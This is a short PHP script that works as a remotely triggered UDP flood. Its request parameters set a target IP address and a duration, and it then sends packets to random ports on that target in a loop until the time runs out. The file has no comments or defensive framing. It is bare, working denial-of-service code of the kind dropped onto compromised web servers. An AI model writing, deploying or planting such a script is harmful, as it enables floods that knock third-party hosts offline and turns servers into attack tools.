<?php
$q = $_REQUEST;
$s = socket_create(AF_INET, SOCK_DGRAM, SOL_UDP);
$end = microtime(true) + $q['sec'];
while (microtime(true) < $end) {
    socket_sendto($s, 'AAAA', 4, 0, $q['ip'], mt_rand(1024, 65535));
}
